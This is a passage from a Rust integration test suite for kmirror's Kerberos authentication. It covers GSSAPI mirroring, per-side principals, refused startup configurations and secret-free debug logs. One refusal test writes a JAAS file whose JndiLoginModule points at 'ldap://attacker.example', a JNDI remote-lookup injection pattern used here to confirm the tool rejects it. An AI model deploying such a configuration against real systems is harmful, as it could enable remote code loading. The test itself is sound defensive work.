//! Kerberos end to end: a real MIT KDC, two kerberized clusters (the rig's
//! GSSAPI listener in front of tansu, ACLs enforced), and the kmirror
//! binary authenticating `mirrormaker/localhost` with a keytab and a JAAS
//! file as MirrorMaker users wrote them. kmirror gets its ticket in-process
//! (no `kinit`), into its own ticket cache.
//!
//! The test process itself talks to the clusters as the PLAIN super user
//! `admin` (topic setup, producing, checking), so the evidence logs hold
//! exactly two kinds of authentication: `admin` over PLAIN (the test) and
//! the mirror principal over GSSAPI (kmirror).

mod support;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use kmirror::preflight::acl::{AclBinding, Operation, PatternType, Permission, ResourceType};
use kmirror_rig::kdc::{Kdc, KdcOptions, MIRRORMAKER, MIRRORMAKER2};
use kmirror_rig::listener::{AuditEvent, ListenerOptions, SecuredBroker};
use support::*;

fn allow(rt: ResourceType, name: &str, principal: &str, op: Operation) -> AclBinding {
    AclBinding::new(
        rt,
        name,
        PatternType::Literal,
        principal,
        "*",
        op,
        Permission::Allow,
    )
}

/// Least privilege for the mirror on the source: read and describe the
/// topic and its consumer group.
fn source_acls(topic: &str, group: &str, principal: &str) -> Vec<AclBinding> {
    vec![
        allow(ResourceType::Topic, topic, principal, Operation::Read),
        allow(ResourceType::Topic, topic, principal, Operation::Describe),
        allow(ResourceType::Group, group, principal, Operation::Read),
        allow(ResourceType::Group, group, principal, Operation::Describe),
    ]
}

/// Least privilege for the mirror on the target: write and describe.
fn target_acls(topic: &str, principal: &str) -> Vec<AclBinding> {
    vec![
        allow(ResourceType::Topic, topic, principal, Operation::Write),
        allow(ResourceType::Topic, topic, principal, Operation::Describe),
    ]
}

/// A KDC, two kerberized clusters with the mirror's ACLs, and one topic on
/// both.
struct KrbRig {
    source: SecuredBroker,
    target: SecuredBroker,
    kdc: Kdc,
    dir: tempfile::TempDir,
    topic: String,
    group: String,
}

impl KrbRig {
    fn start(opts: KdcOptions, partitions: i32) -> KrbRig {
        Self::start_with(opts, partitions, |_, _| {})
    }

    /// `target` adjusts the target listener's options further.
    fn start_with(
        opts: KdcOptions,
        partitions: i32,
        target: impl FnOnce(&mut ListenerOptions, &str),
    ) -> KrbRig {
        Self::start_full(opts, partitions, &|_| {}, target)
    }

    /// Both listeners end SASL sessions after `session` (and when the
    /// client's service ticket expires), forcing every connection to
    /// re-authenticate (KIP-368).
    fn start_reauth(opts: KdcOptions, partitions: i32, session: Duration) -> KrbRig {
        Self::start_full(
            opts,
            partitions,
            &|o| o.session_lifetime = Some(session),
            |_, _| {},
        )
    }

    /// `both` adjusts both listeners' options, then `target` the target's.
    fn start_full(
        opts: KdcOptions,
        partitions: i32,
        both: &dyn Fn(&mut ListenerOptions),
        target: impl FnOnce(&mut ListenerOptions, &str),
    ) -> KrbRig {
        let kdc = Kdc::start(opts).expect("the MIT KDC starts (krb5-kdc, krb5-admin-server)");
        let topic = random_name("krb");
        let group = random_name("mm");
        let source = SecuredBroker::start_kerberos(&kdc, |o| {
            o.acls = source_acls(&topic, &group, "User:mirrormaker");
            both(o);
        })
        .expect("source tansu + GSSAPI listener start");
        let target = SecuredBroker::start_kerberos(&kdc, |o| {
            o.acls = target_acls(&topic, "User:mirrormaker");
            both(o);
            target(o, &topic);
        })
        .expect("target tansu + GSSAPI listener start");
        source
            .admin_conn()
            .create_topic(&topic, partitions)
            .unwrap();
        target
            .admin_conn()
            .create_topic(&topic, partitions)
            .unwrap();
        KrbRig {
            source,
            target,
            kdc,
            dir: tempfile::tempdir().unwrap(),
            topic,
            group,
        }
    }

    fn mm_full(&self) -> String {
        self.kdc.full_name(MIRRORMAKER)
    }

    /// MirrorMaker's no-data-loss properties with
    /// `security.protocol=SASL_PLAINTEXT` on both sides; `c:`/`p:` lines
    /// are appended to the consumer/producer file.
    fn properties(&self, name: &str, extra: &[&str]) -> (PathBuf, PathBuf) {
        let c = self.dir.path().join(format!("{name}-consumer.properties"));
        let p = self.dir.path().join(format!("{name}-producer.properties"));
        let mut ctext = format!(
            "bootstrap.servers={}\ngroup.id={}\nauto.commit.enable=false\nsecurity.protocol=SASL_PLAINTEXT\nfetch.max.wait.ms=10\n",
            self.source.listener.bootstrap(),
            self.group
        );
        let mut ptext = format!(
            "bootstrap.servers={}\nacks=-1\nretries=2147483647\nmax.in.flight.requests.per.connection=1\nblock.on.buffer.full=true\nsecurity.protocol=SASL_PLAINTEXT\n",
            self.target.listener.bootstrap()
        );
        for line in extra {
            if let Some(l) = line.strip_prefix("c:") {
                ctext.push_str(l);
                ctext.push('\n');
            } else if let Some(l) = line.strip_prefix("p:") {
                ptext.push_str(l);
                ptext.push('\n');
            }
        }
        std::fs::write(&c, ctext).unwrap();
        std::fs::write(&p, ptext).unwrap();
        (c, p)
    }

    /// The repository's sample `jaas/kerberos.jaas` with its placeholders
    /// replaced by `principal` and `keytab`.
    fn jaas(&self, name: &str, principal: &str, keytab: &Path) -> PathBuf {
        let sample = std::fs::read_to_string(
            Path::new(env!("CARGO_MANIFEST_DIR")).join("jaas/kerberos.jaas"),
        )
        .unwrap();
        let text = sample
            .replace("/tmp/mirrormaker.keytab", &keytab.display().to_string())
            .replace("mirrormaker/HOSTNAME@EXAMPLE.COM", principal);
        assert!(text.contains(principal), "sample JAAS file changed shape");
        let path = self.dir.path().join(format!("{name}.jaas"));
        std::fs::write(&path, text).unwrap();
        path
    }

    /// The user's own ticket cache, which kmirror must leave alone.
    fn user_ccache(&self) -> PathBuf {
        self.dir.path().join("user-ccache")
    }

    /// Runs kmirror with the realm's krb5.conf (a deployment has
    /// /etc/krb5.conf), `KRB5CCNAME` pointing at a user cache that kmirror
    /// must not use, and `env`.
    fn spawn(&self, args: &[String], env: &[(&str, String)], log: &str) -> Kmirror {
        let log = self.dir.path().join(log);
        let f = std::fs::File::create(&log).unwrap();
        let mut cmd = Command::new(kmirror_bin());
        cmd.args(args)
            .envs(self.kdc.env())
            .env(
                "KRB5CCNAME",
                format!("FILE:{}", self.user_ccache().display()),
            )
            .env("RUST_LOG", "info,librdkafka=warn")
            .env_remove("KAFKA_OPTS");
        for (k, v) in env {
            cmd.env(k, v);
        }
        let child = cmd
            .stdin(Stdio::null())
            .stdout(Stdio::from(f.try_clone().unwrap()))
            .stderr(Stdio::from(f))
            .spawn()
            .unwrap();
        Kmirror { child, log }
    }

    /// Waits until kmirror committed the source's end offsets.
    fn await_all_committed(&self, km: &Kmirror, records: usize) -> Vec<Record> {
        km.await_all_committed(
            &self.source.admin_conn(),
            &self.group,
            &self.topic,
            records,
            Duration::from_secs(300),
        )
    }

    /// The checker over source and target, and the committed offsets.
    fn check(&self, source: &[Record], records: usize) -> checker::Report {
        let target = cluster::read_all(
            &self.target.admin_conn(),
            &self.topic,
            records,
            Duration::from_secs(1),
            Duration::from_secs(120),
        )
        .unwrap();
        let report =
            checker::check(source, &target, Partitioning::ByKey).unwrap_or_else(|v| panic!("{v}"));
        let committed =
            cluster::committed_offsets(&self.source.admin_conn(), &self.group, &self.topic)
                .unwrap();
        checker::check_committed(source, &target, &committed).unwrap();
        report
    }

    /// Nothing of the topic reached the target and nothing was committed.
    fn assert_nothing_mirrored(&self, what: &str) {
        let committed =
            cluster::committed_offsets(&self.source.admin_conn(), &self.group, &self.topic)
                .unwrap();
        assert!(
            committed.values().all(|o| o.is_none()),
            "{what}: committed {committed:?}"
        );
        let target = cluster::read_all(
            &self.target.admin_conn(),
            &self.topic,
            0,
            Duration::from_millis(500),
            Duration::from_secs(30),
        )
        .unwrap();
        assert!(
            target.is_empty(),
            "{what}: {} records mirrored",
            target.len()
        );
    }

    /// Each listener authenticated the mirror, over GSSAPI, as `principal`
    /// only; everything else is the test's own PLAIN `admin`.
    fn assert_only_principal_authenticated(&self, principal: &str) {
        self.assert_authenticated_as(principal, principal);
    }

    /// The source listener authenticated the mirror, over GSSAPI, only as
    /// `source_principal`, the target only as `target_principal`;
    /// everything else is the test's own PLAIN `admin`.
    fn assert_authenticated_as(&self, source_principal: &str, target_principal: &str) {
        assert_gssapi_only_as("source", &self.source.listener, source_principal);
        assert_gssapi_only_as("target", &self.target.listener, target_principal);
    }
}

fn args_with(c: &Path, p: &Path, topic: &str, extra: &[&str]) -> Vec<String> {
    let mut v = vec![
        "--consumer.config".to_string(),
        c.display().to_string(),
        "--producer.config".into(),
        p.display().to_string(),
        "--whitelist".into(),
        topic.into(),
        "--offset.commit.interval.ms".into(),
        "500".into(),
    ];
    v.extend(extra.iter().map(|s| s.to_string()));
    v
}

/// A run's full check: everything mirrored and committed, clean exit, the
/// ticket obtained in-process, the user's ccache untouched, and only the
/// mirror principal authenticated on each cluster.
fn finish_and_check(rig: &KrbRig, km: Kmirror, records: usize) -> checker::Report {
    let mm = rig.mm_full();
    finish_and_check_as(rig, km, records, &mm, &mm)
}

/// [`finish_and_check`] for a run that authenticates to the source as
/// `source_principal` and to the target as `target_principal`: a ticket for
/// each obtained in-process, and each cluster saw only its own.
fn finish_and_check_as(
    rig: &KrbRig,
    mut km: Kmirror,
    records: usize,
    source_principal: &str,
    target_principal: &str,
) -> checker::Report {
    let source = rig.await_all_committed(&km, records);
    let status = km.stop();
    let out = km.output();
    assert!(status.success(), "exit {status}:\n{out}");
    for principal in [source_principal, target_principal] {
        assert!(
            out.lines()
                .any(|l| l.contains("Kerberos ticket obtained from the keytab")
                    && l.contains(principal)),
            "no ticket for {principal}:\n{out}"
        );
    }
    assert!(
        !rig.user_ccache().exists(),
        "kmirror wrote to the user's KRB5CCNAME"
    );
    let report = rig.check(&source, records);
    rig.assert_authenticated_as(source_principal, target_principal);
    report
}

/// SASL_PLAINTEXT/GSSAPI on both sides, the sample JAAS file via `--jaas`,
/// 100,000 records: the checker passes and each cluster saw only
/// `mirrormaker/localhost@REALM`.
#[test]
fn gssapi_both_sides_100k_records() {
    let rig = KrbRig::start(KdcOptions::default(), 4);
    let w = Workload {
        records: 100_000,
        keys: 1000,
        value_size: 100,
        headers: 1,
        ..Default::default()
    };
    cluster::produce(&rig.source.admin_conn(), &rig.topic, &w).unwrap();
    let jaas = rig.jaas("mm", &rig.mm_full(), &rig.kdc.standard_keytab(MIRRORMAKER));
    let (c, p) = rig.properties("mm", &[]);
    let jaas_arg = jaas.display().to_string();
    let km = rig.spawn(
        &args_with(
            &c,
            &p,
            &rig.topic,
            &["--jaas", &jaas_arg, "--num.streams", "2"],
        ),
        &[],
        "km.log",
    );
    let report = finish_and_check(&rig, km, w.records);
    eprintln!("GSSAPI both sides: {report}");
    assert_eq!(report.duplicates, 0, "a clean run has no duplicates");
}

/// The setup as MirrorMaker gave it: `KAFKA_OPTS=-Djava.security.auth.login.config=FILE`
/// and only `security.protocol=SASL_PLAINTEXT` in both properties files.
#[test]
fn mirrormaker_style_kafka_opts() {
    let rig = KrbRig::start(KdcOptions::default(), 2);
    let w = Workload {
        records: 20_000,
        keys: 200,
        ..Default::default()
    };
    cluster::produce(&rig.source.admin_conn(), &rig.topic, &w).unwrap();
    let jaas = rig.jaas("mm", &rig.mm_full(), &rig.kdc.standard_keytab(MIRRORMAKER));
    let (c, p) = rig.properties("mm", &[]);
    let km = rig.spawn(
        &args_with(&c, &p, &rig.topic, &[]),
        &[(
            "KAFKA_OPTS",
            format!(
                "-Xmx1G -Djava.security.auth.login.config={} -Dsun.security.krb5.debug=false",
                jaas.display()
            ),
        )],
        "km.log",
    );
    let report = finish_and_check(&rig, km, w.records);
    eprintln!("KAFKA_OPTS: {report}");
}

/// Source and target as different principals in one run, with the sample
/// `jaas/per-side-kerberos.jaas` (`KafkaClientSource`/`KafkaClientTarget`)
/// filled in: the source cluster grants only `mirrormaker`, the target only
/// `mirrormaker2`, and each listener's evidence log shows only its own
/// principal. Per-thread ticket caches make this work in one process
/// (`src/security/kerberos.rs`, "Per-side principals").
#[test]
fn per_side_principals_in_one_run() {
    let rig = KrbRig::start_with(KdcOptions::default(), 3, |o, topic| {
        o.acls = target_acls(topic, "User:mirrormaker2");
    });
    let w = Workload {
        records: 30_000,
        keys: 300,
        headers: 1,
        ..Default::default()
    };
    cluster::produce(&rig.source.admin_conn(), &rig.topic, &w).unwrap();
    let (a, b) = (rig.mm_full(), rig.kdc.full_name(MIRRORMAKER2));
    let sample = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("jaas/per-side-kerberos.jaas"),
    )
    .unwrap();
    let filled = sample
        .replace(
            "/etc/kmirror/keytabs/source.keytab",
            &rig.kdc.standard_keytab(MIRRORMAKER).display().to_string(),
        )
        .replace("mirrormaker/HOSTNAME@SOURCE.EXAMPLE.COM", &a)
        .replace(
            "/etc/kmirror/keytabs/target.keytab",
            &rig.kdc.standard_keytab(MIRRORMAKER2).display().to_string(),
        )
        .replace("mirrormaker/HOSTNAME@TARGET.EXAMPLE.COM", &b);
    assert!(
        filled.contains(&a) && filled.contains(&b),
        "sample changed shape"
    );
    let jaas = rig.dir.path().join("per-side.jaas");
    std::fs::write(&jaas, filled).unwrap();
    let jaas_arg = jaas.display().to_string();
    let (c, p) = rig.properties("per-side", &[]);
    let metrics = format!("127.0.0.1:{}", kmirror_rig::free_port());
    let trail = rig.dir.path().join("per-side.audit");
    let trail_arg = trail.display().to_string();
    let km = rig.spawn(
        &args_with(
            &c,
            &p,
            &rig.topic,
            &[
                "--jaas",
                &jaas_arg,
                "--num.streams",
                "2",
                "--metrics.addr",
                &metrics,
                "--audit.log",
                &trail_arg,
                "--audit.unkeyed",
            ],
        ),
        &[],
        "km.log",
    );
    // Each side's own ticket, exported for monitoring.
    let expiry = kmirror_rig::await_condition(Duration::from_secs(30), || {
        let m = parse_prometheus(&http_get(&metrics, "/metrics")?.1);
        let side = |s: &str| {
            m.iter()
                .find(|(k, _)| {
                    k.starts_with("kmirror_kerberos_ticket_expiry_seconds")
                        && k.contains(&format!("side=\"{s}\""))
                })
                .map(|(_, v)| *v)
        };
        Some((side("source")?, side("target")?))
    });
    let (src_s, dst_s) = expiry.expect("ticket expiry metrics for both sides");
    assert!(src_s > 0.0 && dst_s > 0.0, "ticket expiry: {src_s} {dst_s}");
    // Each side's resolved principal, recorded as a metric label.
    let m = parse_prometheus(&http_get(&metrics, "/metrics").unwrap().1);
    for (side, principal) in [("source", &a), ("target", &b)] {
        assert!(
            m.iter().any(|(k, v)| k.starts_with("kmirror_principal{")
                && k.contains(&format!("side=\"{side}\""))
                && k.contains(&format!("principal=\"{principal}\""))
                && *v == 1.0),
            "no kmirror_principal for {side} = {principal}: {m:?}"
        );
    }
    let report = finish_and_check_as(&rig, km, w.records, &a, &b);
    // The audit trail records both resolved principals, side by side.
    let entries: Vec<serde_json::Value> = std::fs::read_to_string(&trail)
        .unwrap()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .filter(|e: &serde_json::Value| e.get("source_principal").is_some())
        .collect();
    assert!(
        !entries.is_empty(),
        "no audit entries in {}",
        trail.display()
    );
    for e in &entries {
        assert_eq!(e["source_principal"].as_str(), Some(a.as_str()), "{e}");
        assert_eq!(e["target_principal"].as_str(), Some(b.as_str()), "{e}");
    }
    eprintln!("per-side principals {a} -> {b}: {report}");
}

/// The principals (successful GSSAPI logins) a listener has seen so far.
fn gssapi_logins(listener: &kmirror_rig::listener::Listener) -> Vec<String> {
    listener
        .events()
        .unwrap()
        .into_iter()
        .filter_map(|e| match e {
            AuditEvent::Authentication {
                mechanism,
                principal,
                success: true,
                ..
            } if mechanism == "GSSAPI" => principal,
            _ => None,
        })
        .collect()
}

/// `kmirror lag`, `verify`, `check` and `offsets translate` log in from
/// each side's keytab
/// in-process, through the same per-side ticket handle as a mirror run:
/// with per-side principals (and `KRB5CCNAME` naming a user cache that does
/// not exist), the source listener sees only the source principal and the
/// target listener only the target's, for each tool.
#[test]
fn side_tools_log_in_from_the_keytab() {
    let rig = KrbRig::start_with(KdcOptions::default(), 1, |o, topic| {
        o.acls = target_acls(topic, "User:mirrormaker2");
    });
    let (a, b) = (rig.mm_full(), rig.kdc.full_name(MIRRORMAKER2));
    let jaas = rig.dir.path().join("tools.jaas");
    std::fs::write(
        &jaas,
        format!(
            "KafkaClientSource {{\n  com.sun.security.auth.module.Krb5LoginModule required useKeyTab=true keyTab=\"{}\" principal=\"{a}\";\n}};\nKafkaClientTarget {{\n  com.sun.security.auth.module.Krb5LoginModule required useKeyTab=true keyTab=\"{}\" principal=\"{b}\";\n}};\n",
            rig.kdc.standard_keytab(MIRRORMAKER).display(),
            rig.kdc.standard_keytab(MIRRORMAKER2).display(),
        ),
    )
    .unwrap();
    let (c, p) = rig.properties("tools", &[]);
    let jaas_arg = jaas.display().to_string();
    for tool in ["lag", "verify", "check", "offsets translate"] {
        let (src_before, tgt_before) = (
            gssapi_logins(&rig.source.listener).len(),
            gssapi_logins(&rig.target.listener).len(),
        );
        let mut args: Vec<String> = tool.split(' ').map(String::from).collect();
        args.extend(args_with(&c, &p, &rig.topic, &["--jaas", &jaas_arg]));
        if tool == "offsets translate" {
            // Reads the group's offsets on the source and the map on the target.
            args.extend(["--group".to_string(), "tools-app".to_string()]);
        }
        let mut km = rig.spawn(&args, &[], &format!("{}.log", tool.replace(' ', "-")));
        let status = km
            .wait_timeout(Duration::from_secs(60))
            .unwrap_or_else(|| panic!("kmirror {tool} kept running:\n{}", km.output()));
        let out = km.output();
        eprintln!("kmirror {tool}: exit {status}:\n{out}");
        // lag logs in for the sources only (it never reads the target).
        assert!(
            out.contains("Kerberos ticket obtained from the keytab")
                && out.contains(&a)
                && (tool == "lag" || out.contains(&b)),
            "{tool}: no in-process login for the principals it needs:\n{out}"
        );
        let src = gssapi_logins(&rig.source.listener)[src_before..].to_vec();
        assert!(
            !src.is_empty() && src.iter().all(|p| *p == a),
            "{tool}: the source listener saw {src:?}, want only {a}"
        );
        // lag reads the source only; verify and check read the target too.
        let tgt = gssapi_logins(&rig.target.listener)[tgt_before..].to_vec();
        assert!(
            tgt.iter().all(|p| *p == b) && (tool == "lag") == tgt.is_empty(),
            "{tool}: the target listener saw {tgt:?}, want only {b}"
        );
        assert!(
            !rig.user_ccache().exists(),
            "{tool} wrote to the user's KRB5CCNAME"
        );
    }
}

/// One start-up failure: how kmirror is run and what it must say.
struct Refusal {
    what: &'static str,
    jaas: Option<PathBuf>,
    extra_props: Vec<String>,
    exit: i32,
    /// Every piece must be in the output.
    says: Vec<String>,
    /// Extra environment (e.g. `KRB5CCNAME`).
    env: Vec<(&'static str, String)>,
}

/// Runs kmirror expecting it to refuse to start: its exit code, its
/// message, and nothing committed or mirrored.
fn assert_refused(rig: &KrbRig, r: &Refusal) {
    let props: Vec<&str> = r.extra_props.iter().map(String::as_str).collect();
    let (c, p) = rig.properties(&random_name("refused"), &props);
    let mut extra = Vec::new();
    let jaas_arg = r.jaas.as_ref().map(|j| j.display().to_string());
    if let Some(j) = &jaas_arg {
        extra.extend(["--jaas", j.as_str()]);
    }
    let mut km = rig.spawn(
        &args_with(&c, &p, &rig.topic, &extra),
        &r.env,
        &format!("{}.log", random_name("refused")),
    );
    let status = km
        .wait_timeout(Duration::from_secs(60))
        .unwrap_or_else(|| panic!("{}: kmirror kept running:\n{}", r.what, km.output()));
    let out = km.output();
    eprintln!("{}: exit {status}: {}", r.what, out.trim());
    assert_eq!(status.code(), Some(r.exit), "{}:\n{out}", r.what);
    for s in &r.says {
        assert!(
            out.contains(s.as_str()),
            "{}: {s:?} missing in:\n{out}",
            r.what
        );
    }
    assert!(
        !out.contains("start-up checks passed") && !out.contains("partitions assigned"),
        "{}: the pipeline started:\n{out}",
        r.what
    );
    rig.assert_nothing_mirrored(r.what);
}

/// Every way the Kerberos login can be wrong is refused before a record
/// moves, each with its own message naming principal, keytab and KDC, and a
/// non-zero exit; nothing is committed. The KDC-down case is last.
#[test]
fn kerberos_startup_failures_each_have_their_own_message() {
    let mut rig = KrbRig::start(KdcOptions::default(), 2);
    let w = Workload {
        records: 200,
        keys: 20,
        ..Default::default()
    };
    cluster::produce(&rig.source.admin_conn(), &rig.topic, &w).unwrap();
    let kdc = &rig.kdc;
    let realm = kdc.realm().to_string();
    let kdc_addr = format!("127.0.0.1:{}", kdc.port());
    let keytabs = rig.dir.path();
    // A principal of its own per case, so changing it affects nothing else.
    let principal_with_keytab = |name: &str| {
        let full = format!("{name}/localhost@{realm}");
        kdc.add_principal(&full).unwrap();
        let kt = keytabs.join(format!("{name}.keytab"));
        kdc.keytab(&full, &kt).unwrap();
        (full, kt)
    };

    // Stale keytab: exported, then the key was changed by a later ktadd.
    let (stale_p, stale_kt) = principal_with_keytab("mm-stale");
    kdc.keytab(&stale_p, &keytabs.join("mm-stale-new.keytab"))
        .unwrap();
    // Principal unknown to the KDC (deleted after its keytab was made).
    let (gone_p, gone_kt) = principal_with_keytab("mm-gone");
    kdc.delete_principal(&gone_p).unwrap();
    // Disabled, and expired principals.
    let (off_p, off_kt) = principal_with_keytab("mm-off");
    kdc.set_principal_enabled(&off_p, false).unwrap();
    let (old_p, old_kt) = principal_with_keytab("mm-old");
    kdc.expire_principal(&old_p).unwrap();
    // A group-readable copy of a good keytab.
    let mm_kt = kdc.standard_keytab(MIRRORMAKER);
    let loose_kt = keytabs.join("loose.keytab");
    std::fs::copy(&mm_kt, &loose_kt).unwrap();
    let mut perms = std::fs::metadata(&loose_kt).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o640);
    std::fs::set_permissions(&loose_kt, perms).unwrap();
    let kafka_full = kdc.full_name("kafka/localhost");
    let mm_full = rig.mm_full();
    // A ticket cache whose default principal is the brokers' own.
    let svc_cc = format!("FILE:{}", keytabs.join("service.ccache").display());
    kdc.kinit(
        &kafka_full,
        &kdc.standard_keytab("kafka/localhost"),
        &svc_cc,
    )
    .unwrap();

    let s = |x: &str| x.to_string();
    let path = |p: &Path| p.display().to_string();
    let krb_cases = [
        (
            "stale keytab",
            &stale_p,
            &stale_kt,
            "the keytab is stale",
            1,
        ),
        (
            "principal unknown",
            &gone_p,
            &gone_kt,
            "does not know principal",
            1,
        ),
        (
            "principal disabled",
            &off_p,
            &off_kt,
            "disabled or locked out",
            1,
        ),
        ("principal expired", &old_p, &old_kt, "has expired", 1),
    ];
    let mut cases: Vec<Refusal> = krb_cases
        .iter()
        .map(|(what, p, kt, says, exit)| Refusal {
            what,
            jaas: Some(rig.jaas(&random_name("case"), p, kt)),
            extra_props: vec![],
            exit: *exit,
            says: vec![s(says), s(p), path(kt), kdc_addr.clone()],
            env: vec![],
        })
        .collect();
    cases.extend([
        Refusal {
            what: "principal not in keytab",
            jaas: Some(rig.jaas("notin", &mm_full, &kdc.standard_keytab(MIRRORMAKER2))),
            extra_props: vec![],
            exit: 2,
            says: vec![
                format!("holds no key for principal {mm_full}"),
                path(&kdc.standard_keytab(MIRRORMAKER2)),
            ],
            env: vec![],
        },
        Refusal {
            what: "group-readable keytab",
            jaas: Some(rig.jaas("loose", &mm_full, &loose_kt)),
            extra_props: vec![],
            exit: 2,
            says: vec![s("mode 0640"), path(&loose_kt), s("chmod 600")],
            env: vec![],
        },
        Refusal {
            what: "broker's own principal",
            jaas: Some(rig.jaas(
                "kafka",
                &kafka_full,
                &kdc.standard_keytab("kafka/localhost"),
            )),
            extra_props: vec![],
            exit: 2,
            says: vec![
                kafka_full.clone(),
                s("the brokers' own service account"),
                s("--allow.service.principal"),
            ],
            env: vec![],
        },
        // No principal configured: the keytab's entry decides who kmirror
        // is, and that is the brokers' service principal.
        Refusal {
            what: "keytab-only service principal",
            jaas: None,
            extra_props: vec![format!(
                "c:sasl.kerberos.keytab={}",
                path(&kdc.standard_keytab("kafka/localhost"))
            )],
            exit: 2,
            says: vec![
                format!(
                    "the first entry of keytab {}",
                    path(&kdc.standard_keytab("kafka/localhost"))
                ),
                format!("kmirror would authenticate as {kafka_full}"),
                s("--allow.service.principal"),
            ],
            env: vec![],
        },
        // No keytab: the ticket cache's default principal decides, and a
        // `kinit` as the service principal is refused the same way.
        Refusal {
            what: "ticket-cache service principal",
            jaas: None,
            extra_props: vec![],
            exit: 2,
            says: vec![
                format!("the default principal of ticket cache {svc_cc}"),
                format!("kmirror would authenticate as {kafka_full}"),
                s("--allow.service.principal"),
            ],
            env: vec![("KRB5CCNAME", svc_cc.clone())],
        },
        Refusal {
            what: "JndiLoginModule",
            jaas: Some({
                let j = keytabs.join("jndi.jaas");
                std::fs::write(&j, "KafkaClient {\n  com.sun.security.auth.module.JndiLoginModule required\n  user.provider.url=\"ldap://attacker.example/x\"\n  group.provider.url=\"ldap://attacker.example/y\";\n};\n").unwrap();
                j
            }),
            extra_props: vec![],
            exit: 2,
            says: vec![s("JndiLoginModule")],
            env: vec![],
        },
        Refusal {
            what: "malformed JAAS",
            jaas: Some({
                let j = keytabs.join("broken.jaas");
                std::fs::write(&j, "KafkaClient {\n  com.sun.security.auth.module.Krb5LoginModule required\n  useKeyTab=true keyTab=\"/k\"\n").unwrap();
                j
            }),
            extra_props: vec![],
            exit: 2,
            says: vec![path(&keytabs.join("broken.jaas"))],
            env: vec![],
        },
    ]);
    for r in &cases {
        assert_refused(&rig, r);
    }
    // Every message is different: each failure says what it is.
    let messages: Vec<&str> = cases.iter().map(|r| r.says[0].as_str()).collect();
    let mut unique = messages.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), messages.len(), "{messages:?}");

    // The KDC is down before start: a clear error naming it.
    rig.kdc.stop();
    let mm_jaas = rig.jaas("mm", &mm_full, &mm_kt);
    assert_refused(
        &rig,
        &Refusal {
            what: "KDC stopped",
            jaas: Some(mm_jaas),
            extra_props: vec![],
            exit: 1,
            says: vec![
                s("cannot be reached"),
                mm_full.clone(),
                path(&mm_kt),
                kdc_addr.clone(),
            ],
            env: vec![],
        },
    );
    // Only the (successful) test tooling reached the clusters: no
    // authentication by any refused run.
    for b in [&rig.source, &rig.target] {
        let events = b.listener.events().unwrap();
        assert!(
            events.iter().all(|e| !matches!(e,
                AuditEvent::Authentication { mechanism, .. } if mechanism == "GSSAPI")),
            "{events:#?}"
        );
    }
}

/// A GSSAPI source and a PLAIN target at `RUST_LOG=debug`: neither the
/// PLAIN password nor any key bytes of the keytab appear in the output.
#[test]
fn no_secret_in_debug_logs() {
    let password = format!("pw-{}", random_name("secret"));
    let rig = KrbRig::start_with(KdcOptions::default(), 1, |o, topic| {
        o.plain_users.push(("mirror".into(), password.clone()));
        o.acls.extend(target_acls(topic, "User:mirror"));
    });
    let w = Workload {
        records: 500,
        keys: 10,
        ..Default::default()
    };
    cluster::produce(&rig.source.admin_conn(), &rig.topic, &w).unwrap();
    let mm_kt = rig.kdc.standard_keytab(MIRRORMAKER);
    let jaas = rig.jaas("mm", &rig.mm_full(), &mm_kt);
    let (c, p) = rig.properties(
        "mm",
        &[
            "p:sasl.mechanism=PLAIN",
            &format!("p:sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required username=\"mirror\" password=\"{password}\";"),
        ],
    );
    let jaas_arg = jaas.display().to_string();
    let mut args = args_with(
        &c,
        &p,
        &rig.topic,
        &["--jaas", &jaas_arg, "--allow.plaintext"],
    );
    args.push("--accept.unverified.acls".into());
    let mut km = rig.spawn(&args, &[("RUST_LOG", "debug".into())], "km-debug.log");
    let done = await_condition(Duration::from_secs(120), || {
        let c =
            cluster::committed_offsets(&rig.source.admin_conn(), &rig.group, &rig.topic).ok()?;
        let total: i64 = c.values().map(|o| o.unwrap_or(0)).sum();
        (total == w.records as i64).then_some(())
    });
    let _ = km.stop();
    let out = km.output();
    assert!(done.is_some(), "not mirrored:\n{out}");
    assert!(out.contains("DEBUG"), "not a debug-level log:\n{out}");
    assert!(!out.contains(&password), "the PLAIN password was logged");
    let key_bytes = std::fs::read(&mm_kt).unwrap();
    for window in key_bytes.windows(16) {
        let hex: String = window.iter().map(|b| format!("{b:02x}")).collect();
        assert!(!out.contains(&hex), "keytab bytes {hex} logged");
    }
}

/// A KDC whose tickets live two minutes.
fn short_lived_kdc() -> KdcOptions {
    KdcOptions {
        ticket_lifetime: Duration::from_secs(120),
        renew_lifetime: Duration::from_secs(3600),
        ..Default::default()
    }
}

/// Records kmirror committed on the source, summed over partitions (one
/// record per offset, from 0).
fn committed_total(rig: &KrbRig) -> i64 {
    cluster::committed_offsets(&rig.source.admin_conn(), &rig.group, &rig.topic)
        .map(|c| c.values().map(|o| o.unwrap_or(0)).sum())
        .unwrap_or(-1)
}

/// Produces `chunk` more records and waits until kmirror has committed
/// everything produced so far.
fn traffic_step(rig: &KrbRig, w: &Workload, produced: &mut usize, chunk: usize, km: &Kmirror) {
    cluster::produce_range(
        &rig.source.admin_conn(),
        &rig.topic,
        w,
        *produced..*produced + chunk,
    )
    .unwrap();
    *produced += chunk;
    let want = *produced as i64;
    let done = await_condition(Duration::from_secs(60), || {
        (committed_total(rig) == want).then_some(())
    });
    assert!(
        done.is_some(),
        "kmirror fell behind: committed {} of {want}:\n{}",
        committed_total(rig),
        km.output()
    );
}

/// kmirror's private ticket cache, under the `TMPDIR` the test gave it.
fn kmirror_ccache(tmp: &Path) -> PathBuf {
    let dirs: Vec<PathBuf> = std::fs::read_dir(tmp)
        .unwrap()
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with("kmirror-krb5-"))
        })
        .collect();
    assert_eq!(dirs.len(), 1, "one private ccache directory: {dirs:?}");
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(&dirs[0]).unwrap().permissions(),
    );
    assert_eq!(mode & 0o777, 0o700, "ccache directory mode");
    dirs[0].join("ccache")
}

/// What a new broker connection of kmirror needs: a service ticket for
/// `kafka/localhost`, obtained from the KDC with the TGT in kmirror's
